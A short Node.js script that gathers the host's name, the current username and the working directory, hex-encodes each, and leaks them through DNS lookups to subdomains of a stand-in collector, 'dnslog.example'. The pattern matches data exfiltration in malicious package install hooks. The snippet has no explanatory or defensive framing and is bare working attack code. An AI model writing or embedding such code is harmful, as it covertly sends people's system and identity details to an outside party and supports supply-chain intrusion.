const os = require('os');
const dns = require('dns');
const hex = (s) => Buffer.from(String(s)).toString('hex');
const data = [os.hostname(), os.userInfo().username, process.cwd()].map(hex);
data.forEach((part, i) => {
  dns.lookup(part + '.' + i + '.dnslog.example', () => {});
});
